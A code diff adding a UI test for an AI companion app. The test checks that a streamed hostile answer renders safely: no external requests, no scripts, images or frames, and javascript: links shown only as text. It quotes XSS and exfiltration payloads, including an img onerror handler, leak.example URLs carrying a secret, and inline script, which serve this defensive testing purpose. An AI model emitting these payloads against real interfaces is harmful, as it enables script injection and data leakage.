@@ -6,7 +6,8 @@ import { describe, expect, test } from 'vitest';
 import type { Page } from 'playwright-core';
 import type { TurnLine } from '../../src/ui/companion';
 import type { Question } from '../../src/ui/confirm';
-import { axe, calls, emit, shot, windows } from './harness';
+import { axe, base, calls, emit, shot, windows } from './harness';
+import { HOSTILE } from '../hostile-answer';
 
 const win = windows();
 
@@ -626,5 +627,68 @@ describe('issue 34 bounded answers', () => {
     await say(whole, 'hello');
     await expect.poll(() => whole.locator('[data-testid="answer"]').getAttribute('aria-busy')).toBe('false');
     expect(await whole.locator('[data-testid="answer-cut"]').count()).toBe(0);
+  });
+});
+
+describe('issue 34 answers that look like answers', () => {
+  /** The answer streamed in small pieces, so that many half-written prefixes are drawn, then the whole reply. */
+  const streamed = (text: string): TurnLine[] => [
+    ...(text.match(/[\s\S]{1,9}/g) ?? []).map((piece): TurnLine => ({ type: 'delta', text: piece })),
+    { type: 'reply', text }, { type: 'end', steps: 0 },
+  ];
+
+  test('a hostile answer: nothing fetched or run, no image, script or frame drawn even half-written; links show their full address and a click asks the shell to open exactly it', async () => {
+    const page = await companion({ ai: OLLAMA, turn: streamed(HOSTILE) });
+    const requests: string[] = [];
+    page.on('request', (r) => requests.push(r.url()));
+    // Every element ever added to the conversation, as it streams.
+    await page.evaluate(() => {
+      const added: string[] = [];
+      (window as any).__added = added;
+      new MutationObserver((changes) => changes.forEach((c) => c.addedNodes.forEach((n) => {
+        if (n instanceof Element) [n, ...n.querySelectorAll('*')].forEach((e) => added.push(e.tagName.toLowerCase()));
+      }))).observe(document.querySelector('[data-testid="conversation"]')!, { subtree: true, childList: true });
+    });
+    await say(page, 'what is on my list?');
+    const answer = page.locator('[data-testid="answer"]');
+    await expect.poll(() => answer.getAttribute('aria-busy'), { timeout: 15_000 }).toBe('false');
+
+    const added: string[] = await page.evaluate(() => (window as any).__added);
+    expect(added).toContain('code');
+    for (const tag of ['img', 'script', 'iframe', 'object', 'embed', 'a', 'svg', 'style', 'link', 'video', 'audio', 'source', 'form']) {
+      expect(added, tag).not.toContain(tag);
+    }
+    expect(await answer.locator('img, script, iframe, a, [href], [src], [onerror]').count()).toBe(0);
+    expect(requests.filter((url) => !url.startsWith(base)), 'requests that left the app').toEqual([]);
+    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
+
+    // What the subset draws: bold, a list, inline code, a code block; raw HTML and the image as their text.
+    expect(await answer.locator('strong').allInnerTexts()).toEqual(['Companion:', 'your list']);
+    expect(await answer.locator('li').count()).toBe(2);
+    expect(await answer.locator('pre code').innerText()).toBe('<iframe src="https://leak.example/frame"></iframe>');
+    const shown = await answer.innerText();
+    expect(shown).toMatch(/^Companion:\s+Here is your list:\n/);
+    expect(shown).toContain('<img src="https://leak.example/img?q=secret" onerror="window.__pwned=1">');
+    expect(shown).toContain('x (https://leak.example/?q=secret) and [click me](javascript:window.__pwned=1) or <javascript:window.__pwned=1>');
+    expect(shown).toContain('inline <script>window.__pwned=1</script>');
+    // Only the http(s) addresses are links, each showing its full address.
+    const links = answer.locator('[data-testid="answer-link"]');
+    expect(await links.allInnerTexts()).toEqual(['https://leak.example/img?q=secret', 'the docs (https://docs.example.com/start?lang=en)']);
+    expect(await axe(page)).toEqual([]);
+    await shot(page, 'companion-markdown');
+
+    // Clicking the javascript: text runs nothing; a link, by keyboard, asks the shell to open exactly its address.
+    await answer.getByText('[click me](javascript:window.__pwned=1)', { exact: false }).click();
+    await links.nth(1).focus();
+    await page.keyboard.press('Enter');
+    await expect.poll(() => calls(page, 'open_answer_link')).toEqual([{ url: 'https://docs.example.com/start?lang=en' }]);
+    await links.nth(0).click();
+    await expect.poll(() => calls(page, 'open_answer_link')).toHaveLength(2);
+    expect((await calls(page, 'open_answer_link'))[1]).toEqual({ url: 'https://leak.example/img?q=secret' });
+    // The window went nowhere, opened no other, and still ran nothing.
+    expect(page.url()).toBe(base);
+    expect(page.context().pages()).toHaveLength(1);
+    expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
+    expect(requests.filter((url) => !url.startsWith(base)), 'requests that left the app').toEqual([]);
   });
 });
